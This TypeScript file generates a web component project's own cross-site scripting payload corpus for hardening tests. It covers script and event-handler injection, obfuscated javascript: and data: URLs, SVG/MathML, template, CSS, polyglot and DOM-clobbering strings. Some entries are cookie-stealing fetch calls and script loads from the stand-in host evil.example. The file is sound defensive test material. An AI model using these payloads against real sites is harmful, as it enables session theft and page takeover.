/**
 * The project's own XSS corpus, generated from families of tricks rather than copied from a list, so
 * every payload has a reason to be here and the corpus can grow by adding a family. Every payload,
 * if it ever ran, would do something the hardening tests notice:
 * - set the sentinel `window.__pwned` (or `top`/`parent`/`self`'s),
 * - open a dialog (`alert`, `confirm`, `prompt`),
 * - navigate the page, or request another origin (`evil.example`, recorded by the harness).
 *
 * Deterministic: the same list, in the same order, on every run (the sample in `npm test` picks from
 * it with a fixed seed).
 */

export interface Payload {
  /** Which family of trick (see `FAMILIES`). */
  family: string;
  text: string;
}

/** Things a payload may try to run. */
const ACTIONS = [
  'window.__pwned=1',
  'alert(1)',
  'top.__pwned=document.domain',
  'confirm(document.cookie)',
  'self["__pw"+"ned"]=1',
  'parent.__pwned=location.href',
  'prompt(1)',
  "fetch('//evil.example/steal?c='+document.cookie)",
  "location='//evil.example/'",
  'eval("__pwned=1")',
  'Function("__pwned=1")()',
  'setTimeout("__pwned=1")',
];
const act = (i: number): string => ACTIONS[i % ACTIONS.length];

/** Ways out of the context a value might land in: text, a quoted attribute, a raw-text element, a comment. */
const BREAKOUTS = ['', '">', "'>", '`>', '</title>', '</textarea>', '</style>', '</script>', '-->', '--!>', ']]>', '</noscript>', '</xmp>', '</template>'];

function tagInjection(): string[] {
  const out: string[] = [];
  const hosts: [string, (a: string) => string][] = [
    ['script', (a) => `<script>${a}</script>`],
    ['script-src', () => `<script src="//evil.example/x.js"></script>`],
    ['img', (a) => `<img src=x onerror=${a}>`],
    ['img-quoted', (a) => `<img src="x" onerror="${a}">`],
    ['svg', (a) => `<svg onload=${a}>`],
    ['body', (a) => `<body onload=${a}>`],
    ['iframe', (a) => `<iframe src="javascript:${a}"></iframe>`],
    ['iframe-srcdoc', (a) => `<iframe srcdoc="<script>${a}</script>"></iframe>`],
    ['details', (a) => `<details open ontoggle=${a}>`],
    ['input', (a) => `<input autofocus onfocus=${a}>`],
    ['video', (a) => `<video><source onerror=${a}></video>`],
    ['audio', (a) => `<audio src=x onerror=${a}>`],
    ['object', (a) => `<object data="javascript:${a}"></object>`],
    ['embed', (a) => `<embed src="javascript:${a}">`],
    ['a', (a) => `<a href="javascript:${a}">click</a>`],
    ['form', (a) => `<form action="javascript:${a}"><button>go</button></form>`],
    ['button-formaction', (a) => `<button formaction="javascript:${a}">go</button>`],
    ['meta-refresh', () => `<meta http-equiv="refresh" content="0;url=//evil.example/">`],
    ['base', () => `<base href="//evil.example/">`],
    ['link', () => `<link rel="stylesheet" href="//evil.example/x.css">`],
    ['marquee', (a) => `<marquee onstart=${a}>x</marquee>`],
    ['select', (a) => `<select autofocus onfocus=${a}></select>`],
    ['textarea', (a) => `<textarea autofocus onfocus=${a}></textarea>`],
    ['keygen', (a) => `<keygen autofocus onfocus=${a}>`],
    ['isindex', (a) => `<isindex type=image src=1 onerror=${a}>`],
    ['style', () => `<style>@import '//evil.example/x.css';</style>`],
    ['template', (a) => `<template><img src=x onerror=${a}></template>`],
    ['noscript', (a) => `<noscript><p title="</noscript><img src=x onerror=${a}>">`],
    ['custom', (a) => `<x-y onclick=${a} style=display:block>x</x-y>`],
  ];
  hosts.forEach(([, make], i) => {
    for (const [j, b] of BREAKOUTS.entries()) {
      // Every host with the plain breakouts; the rarer ones with a few hosts only, to keep the list focused.
      if (j > 3 && (i + j) % 4 !== 0) continue;
      out.push(`${b}${make(act(i + j))}`);
    }
  });
  return out;
}

function attributeBreaking(): string[] {
  const out: string[] = [];
  const quotes = ['"', "'", '`', ''];
  const handlers = ['onmouseover', 'onfocus', 'onclick', 'onpointerenter', 'onanimationstart', 'onerror', 'onload'];
  quotes.forEach((q, i) => {
    handlers.forEach((h, j) => {
      const a = act(i * 7 + j);
      out.push(`x${q} ${h}=${q}${a}${q} autofocus tabindex=0 x=${q}`);
      out.push(`${q}/${h}=${a}//`);
    });
  });
  out.push('" style="animation-name:x" onanimationstart="window.__pwned=1', "' accesskey='x' onclick='alert(1)'", '"/><img src=x onerror=alert(1)>');
  out.push('x" href="javascript:alert(1)', 'x\' src=\'javascript:alert(1)', '" autofocus onfocus=alert(1) x="');
  return out;
}

function eventHandlers(): string[] {
  const events = [
    'onabort', 'onafterprint', 'onanimationend', 'onauxclick', 'onbeforeinput', 'onbeforetoggle', 'onblur', 'oncanplay',
    'onchange', 'oncontextmenu', 'oncopy', 'oncut', 'ondblclick', 'ondrag', 'ondrop', 'onfocusin', 'oninput', 'oninvalid',
    'onkeydown', 'onloadstart', 'onmousedown', 'onpageshow', 'onpaste', 'onplay', 'onpointerdown', 'onscroll', 'onscrollend',
    'onsearch', 'onselect', 'ontoggle', 'ontransitionend', 'onwheel', 'onresize', 'onhashchange', 'onmessage', 'onpopstate',
  ];
  const tags = ['div', 'svg', 'body', 'img src=x', 'a href=#', 'details open', 'input autofocus', 'video controls'];
  return events.map((e, i) => `<${tags[i % tags.length]} ${e}="${act(i)}">hover me</${tags[i % tags.length].split(' ')[0]}>`);
}

/** `javascript:` written the ways browsers still accept it, plus `data:` and `vbscript:`. */
function urlVariants(): string[] {
  const out: string[] = [];
  const schemes = [
    'javascript:', 'JAVASCRIPT:', 'JaVaScRiPt:', 'jAvAsCrIpT:',
    ' javascript:', '\tjavascript:', '\njavascript:', '\u0001javascript:', '\u0000javascript:', '\u00a0javascript:',
    'java\tscript:', 'java\nscript:', 'java\rscript:', 'jav\u0000ascript:', 'javascript\t:', 'javascript\u000b:',
    '&#106;avascript:', '&#x6A;avascript:', '&#0000106;avascript:', '&#X6a;&#X61;vascript:', 'javascript&colon;', 'javascript&#58;',
    '%6Aavascript:', 'javascript%3A', 'java&Tab;script:', 'java&NewLine;script:',
    'vbscript:', 'VBScript:', 'livescript:', 'mocha:',
    'ｊａｖａｓｃｒｉｐｔ:', 'javascript\u200b:', '\u202ejavascript:', 'javascript\uff1a',
    '//evil.example/', '\\\\evil.example/', '/\\evil.example/', 'https:evil.example', 'http://evil.example@', 'jar:javascript:',
  ];
  schemes.forEach((s, i) => {
    out.push(`${s}${act(i)}`);
    out.push(`${s}//%0a${act(i + 1)}`);
  });
  const datas = [
    'data:text/html,<script>window.__pwned=1</script>',
    'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+',
    'DATA:text/html,<img src=x onerror=alert(1)>',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
    'data:application/javascript,alert(1)',
    ' data:text/html,<script>alert(1)</script>',
    'data:,window.__pwned=1',
    'data:text/javascript;charset=utf-8,top.__pwned=1',
    'blob:https://evil.example/uuid',
    'filesystem:https://evil.example/x',
    'about:blank#<script>alert(1)</script>',
  ];
  out.push(...datas);
  return out;
}

function svgAndMathml(): string[] {
  return [
    '<svg><script>window.__pwned=1</script></svg>',
    '<svg><script href="data:,alert(1)"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><a href="javascript:top.__pwned=1"><rect width="100" height="100"/></a></svg>',
    '<svg><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
    '<svg><image href="x" onerror="window.__pwned=1"/></svg>',
    '<svg><style>@import url(//evil.example/x.css)</style></svg>',
    '<svg><discard onbegin=alert(1)>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    '<svg/onload=alert(1)>',
    '<svg\x0conload=alert(1)>',
    '<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mtext><h1><a href="javascript:alert(1)">x</a></h1></mtext></math>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
    '<svg><desc><![CDATA[<script>alert(1)</script>]]></desc></svg>',
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    '<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">alert(1)</xss:script>',
  ];
}

/** Template syntaxes of many engines, and Lit's own internal markers. */
function templateInjection(): string[] {
  const out = [
    '${window.__pwned=1}', '${alert(1)}', '`${alert(1)}`', '${`${__pwned=1}`}',
    '{{constructor.constructor("window.__pwned=1")()}}', '{{$on.constructor("alert(1)")()}}', "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
    '{{7*7}}', '{{{html}}}', '[[__pwned=1]]', '#{__pwned=1}', '<%= __pwned=1 %>', '{%raw%}{{x}}{%endraw%}', '@{__pwned=1}',
    '{{#with "s" as |string|}}{{/with}}', '${{__pwned=1}}', '{{= __pwned=1}}', '<#assign ex="freemarker.template.utility.Execute"?new()>',
    // Lit's markers (a random number in real templates; these try to look like one).
    '<?lit$123456$>', 'lit$123456$', '<!--?lit$123456$-->', '<!---->', '$lit$', '<?>',
    '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
    '<div data-lit=x @click="${alert(1)}" .innerHTML="${"<img src=x onerror=alert(1)>"}">x</div>',
    '{"__proto__":{"polluted":1}}', 'constructor[prototype][polluted]=1',
  ];
  return out;
}

function cssInjection(): string[] {
  return [
    '</style><style>*{background:url(//evil.example/a)}</style>',
    'x;background:url(//evil.example/b)',
    'red;}*{background:url(//evil.example/c)}',
    'expression(alert(1))', 'width:expression(window.__pwned=1)',
    '@import url(//evil.example/d.css);', "@import '//evil.example/e.css'",
    'url(javascript:alert(1))', 'behavior:url(//evil.example/x.htc)', '-moz-binding:url(//evil.example/x.xml#xss)',
    '} :host { display:none !important } {', '--sw-color-text: red; background-image: url(//evil.example/f)',
    '\\3c script\\3e alert(1)\\3c /script\\3e', '<div style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</div>',
    'x</style><img src=x onerror=alert(1)>', 'font-family:"</style><svg onload=alert(1)>"',
    '<link rel=stylesheet href=data:,*%7bx:expression(alert(1))%7d>',
    '*{all:unset}', 'position:fixed;top:0;left:0;width:100vw;height:100vh',
  ];
}

/** Characters that change how text looks or reads, or that break naive string handling. */
function unicodeTricks(): string[] {
  return [
    '\u202eevil.exe\u202c.txt', '\u202egnp.exe', 'abc\u202edef\u202cghi', '\u2066isolate\u2069\u2067rtl\u2069',
    'ab\u200bcd', 'java\u200bscript:alert(1)', '\u200d\u200c\u200e\u200f', '\ufeffBOM at start', 'zero\u2060width\u2060joiner',
    '＜script＞alert(1)＜/script＞', '\uff1cimg src=x onerror=alert(1)\uff1e', '\u2039script\u203aalert(1)\u2039/script\u203a',
    '\u0131nn\u0131', 'ﬁle', 'K\u212a', 'ǅ', 'İstanbul',
    'Z̵̡̢̛̗̘̙̜̝̞̟̠̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌̕̚ͅ͏͓͔͕͖͙͚͐͑͒͗͛ͣͤͥͦͧͨͩͪͫͬͭͮͯ͘͜͟͢͝͞͠͡a̸l̷g̴o',
    '\ud800', 'x\udfffy', '\ud83d', '\udc00\ud800', '😀\u200d😀\u200d😀', '👩🏽‍🔧', '🏴󠁧󠁢󠁳󠁣󠁴󠁿',
    'line\u2028separator', 'para\u2029separator', 'nul\u0000byte', 'bell\u0007 esc\u001b[31mred', 'del\u007f',
    '\u00ad\u00adsoft hyphens\u00ad', 'ᅟᅠ　hangul fillers', '\u3000ideographic space',
    'A'.repeat(2000), 'W'.repeat(600) + ' ' + 'M'.repeat(600), 'https://example.org/' + 'a'.repeat(1500),
    'ក'.repeat(300) + '្'.repeat(50), '\u0e01\u0e33'.repeat(200), 'ม'.repeat(400),
    '𒐫'.repeat(100), '﷽'.repeat(40), '꧅'.repeat(200),
  ];
}

/** Entities, URL and JS escapes of markup: all must stay as written, never decoded into markup. */
function encodings(): string[] {
  const out: string[] = [];
  const markup = ['<img src=x onerror=alert(1)>', '<script>window.__pwned=1</script>', '<svg onload=top.__pwned=1>'];
  for (const m of markup) {
    out.push(m.replace(/</g, '&lt;').replace(/>/g, '&gt;'));
    out.push(m.replace(/</g, '&amp;lt;').replace(/>/g, '&amp;gt;'));
    out.push(m.replace(/[<>"=]/g, (c) => `&#${c.charCodeAt(0)};`));
    out.push(m.replace(/[<>"=]/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`));
    out.push(encodeURIComponent(m));
    out.push(m.replace(/[<>]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`));
    out.push(m.replace(/[<>]/g, (c) => `\\x${c.charCodeAt(0).toString(16)}`));
    out.push(`<![CDATA[${m}]]>`);
    out.push(`<!--${m}-->`);
    out.push(btoa(m));
  }
  out.push('&lt;&#x3C;&#60;&LT;&#0060;\\u003c\\x3c%3C');
  return out;
}

/** Strings that try to be valid in several contexts at once (written for this corpus). */
function polyglots(): string[] {
  return [
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */__pwned=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__pwned=1//>\\x3e`,
    `'"--></style></script></title></textarea><svg/onload=alert(1)><!--`,
    `"'><img src=x onerror=alert(1)>\${alert(1)}{{alert(1)}}javascript:alert(1)`,
    `-->'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)\`\`>`,
    `';alert(1);//\\';alert(1);//";alert(1);//\\";alert(1);//--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>`,
    `<a href="jav&#x09;ascript:alert(1)">\`'"><svg onload=alert(1)>`,
    `javascript://--></script></title></style>"/</textarea>*/<alert()/*' onclick=alert()//>a`,
    `%3C%22%27%3E<x onclick=alert(1)>%00<!--`,
    `</template></svg></math><img src onerror=alert(1)>`,
    `"><iframe/src=javascript:top.__pwned=1>{{x}}\${x}<%x%>`,
    `\\"-alert(1)}//`, `\\'-alert(1)//`, `</script><script>alert(1)</script>`,
    `'));alert(1);//`, `*/alert(1);/*`, `" + alert(1) + "`, `\` + alert(1) + \``,
    `<x contenteditable onblur=alert(1)>lose focus!`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `<a id=x tabindex=1 onfocus=alert(1)></a><input autofocus>`,
    `<img src="x" onerror="this.onerror=null;window.__pwned=1" alt="<b>literal</b>">`,
  ];
}

/** Names that collide with JavaScript object machinery when used as keys (ids, tags, publishers, codes). */
function objectKeys(): string[] {
  return [
    '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__',
    'isPrototypeOf', 'then', 'length', 'size', 'toJSON', 'NaN', 'undefined', 'null', 'Infinity', '-0', '0', '',
    ' ', '\t', '1e309', '__pwned', 'document', 'window', 'location', 'cookie',
  ];
}

/** Clobbering: markup whose ids and names shadow globals, if it were ever parsed into the page. */
function domClobbering(): string[] {
  return [
    '<form id=location><input name=href value=//evil.example></form>',
    '<a id=__pwned href=//evil.example>x</a>',
    '<img name=currentScript src=//evil.example/x.js>',
    '<form name=document><img name=cookie></form>',
    '<iframe name=trustedTypes></iframe>',
    '<object id=customElements></object>',
    '<a id=defaultView><a id=defaultView name=trustedTypes href=x>',
    '<img id=attributes><img id=attributes name=nodeName>',
  ];
}

export const FAMILIES: Record<string, () => string[]> = {
  'tag injection': tagInjection,
  'attribute breaking': attributeBreaking,
  'event handlers': eventHandlers,
  'URL schemes': urlVariants,
  'SVG and MathML': svgAndMathml,
  'template injection': templateInjection,
  'CSS injection': cssInjection,
  'unicode tricks': unicodeTricks,
  encodings,
  polyglots,
  'object keys': objectKeys,
  'DOM clobbering': domClobbering,
};

let cached: Payload[] | undefined;

/** Every payload once, in a stable order. */
export function xssPayloads(): Payload[] {
  if (cached) return cached;
  const seen = new Set<string>();
  const out: Payload[] = [];
  for (const [family, make] of Object.entries(FAMILIES)) {
    for (const text of make()) {
      if (seen.has(text)) continue;
      seen.add(text);
      out.push({ family, text });
    }
  }
  cached = out;
  return out;
}
